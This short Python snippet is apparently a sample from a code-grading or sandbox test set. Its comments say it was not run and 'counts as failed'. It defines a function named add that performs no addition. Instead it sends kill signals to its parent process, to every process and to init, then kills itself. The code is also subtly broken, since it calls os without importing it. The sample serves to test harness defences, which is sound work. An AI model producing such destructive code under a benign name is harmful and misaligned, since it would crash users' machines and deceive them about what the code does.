# Kills every process it can, its parent first.
# stock: not run: it would harm the machine
# finding: counts as failed
# %% add
import signal

def add(x, y):
    for pid in (os.getppid(), -1, 1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
